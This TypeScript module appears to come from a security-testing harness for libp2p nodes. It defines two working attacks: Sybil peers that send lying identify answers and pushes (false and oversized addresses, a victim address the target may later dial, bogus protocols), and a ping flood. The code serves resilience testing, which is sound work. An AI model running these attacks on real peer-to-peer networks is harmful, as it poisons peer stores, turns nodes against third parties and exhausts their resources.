/** libp2p's own services as Meshkit runs them: identify (answers and pushes that lie) and ping. */
import { multiaddr } from '@multiformats/multiaddr'
import { ConnectionKeeper, defineAttack, loops } from '../attack.js'
import { HostilePool, IDENTIFY_PUSH_PROTOCOL } from '../hostile-node.js'
import { longAddr } from '../ids.js'
import { between, closeSoon, hex, lp, noise, pause, pb, send } from '../wire.js'

export const PING_PROTOCOL = '/ipfs/ping/1.0.0'

/** A documentation-range address (never routed; libp2p counts it as private): a safe lie. */
const unroutable = () => `/ip4/198.51.100.${between(1, 254)}/tcp/${between(1024, 65535)}`

/**
 * Sybils whose identify answers lie: many protocols and listen addresses (a victim's first, then long
 * loopback ones; half of them within identify's 8 KiB limit, half far beyond), an observed address the
 * target never had; plus identify pushes of the same (when the target takes pushes). The target stores it all per peer (peer store, peer cache) and may dial the
 * addresses later.
 */
export const identifyLies = defineAttack(
  'identify-lies',
  'identify answers (and pushes) claiming many protocols and addresses (a victim first) and a false observed address',
  async (ctx) => {
    const victim = await ctx.sentinels.open('victim:identify-lies')
    const pool = new HostilePool(ctx.sourceIps)
    const push = ctx.target.protocols.includes(IDENTIFY_PUSH_PROTOCOL)
    if (!push) ctx.tally.note('the target does not advertise identify push: only identify answers lie')
    try {
      let n = 0
      await loops(ctx.scaled(3), ctx.signal, ctx.tally, async () => {
        // every other Sybil lies within identify's 8 KiB message limit (a victim, 12 addresses, 40
        // protocols), the others far beyond it (60 addresses, 300 protocols)
        const big = n++ % 2 === 1
        const listenAddrs = [
          victim.tcp,
          ...Array.from({ length: big ? 59 : 11 }, () => longAddr(big ? 200 : 120)),
        ]
        const protocols = Array.from({ length: big ? 300 : 40 }, () => `/hostile/${hex(40)}/1.0.0`)
        ctx.tally.inc(big ? 'oversized_identities' : 'fitting_identities')
        const node = await pool.spawn({
          identity: {
            listenAddrs,
            protocols,
            observedAddr: () => unroutable(),
            agentVersion: `hostile/${'x'.repeat(200)}`,
          },
        })
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          // let the target run identify against us
          await pause(300, ctx.signal)
          if (push && connection.status === 'open') {
            const { stream } = await node.open(connection, IDENTIFY_PUSH_PROTOCOL, ctx.tally, ctx.signal)
            const message = pb([
              ...listenAddrs.map((a) => [2, multiaddr(a).bytes] as const),
              ...protocols.map((p) => [3, p] as const),
            ])
            await send(
              stream,
              lp(message.length > 60_000 ? noise(60_000) : message),
              ctx.tally,
              ctx.signal,
            ).catch((err) => ctx.tally.error(err))
            await closeSoon(stream)
            ctx.tally.inc('pushes_sent')
          }
          ctx.tally.inc('lying_sybils')
          await pause(between(100, 500), ctx.signal)
        } finally {
          await pool.stop(node)
        }
      })
      ctx.tally.set('victim_hits', ctx.sentinels.since(0, victim.label).length)
    } finally {
      await pool.stopAll()
    }
  },
)

/** Ping floods: parallel ping streams echoing 32-byte payloads back to back. */
export const pingFlood = defineAttack(
  'ping-flood',
  'parallel ping streams, 32-byte payloads back to back (the target echoes every byte)',
  async (ctx) => {
    const pool = new HostilePool(ctx.sourceIps)
    try {
      const keeper = new ConnectionKeeper(ctx, pool)
      await loops(ctx.scaled(4), ctx.signal, ctx.tally, async () => {
        const connection = await keeper.get()
        const { stream, reader } = await keeper.node!.open(connection, PING_PROTOCOL, ctx.tally, ctx.signal)
        try {
          for (let i = 0; i < 200 && !ctx.signal.aborted && stream.writeStatus === 'writable'; i++) {
            await send(stream, noise(32), ctx.tally, ctx.signal)
            const r = await reader.read({ timeoutMs: 2000, maxBytes: 32 * (i + 1), signal: ctx.signal })
            if (r.end !== 'max') {
              ctx.tally.inc(`ping_stream_${r.end}`)
              break
            }
            ctx.tally.inc('pings_echoed')
          }
        } finally {
          await closeSoon(stream)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)
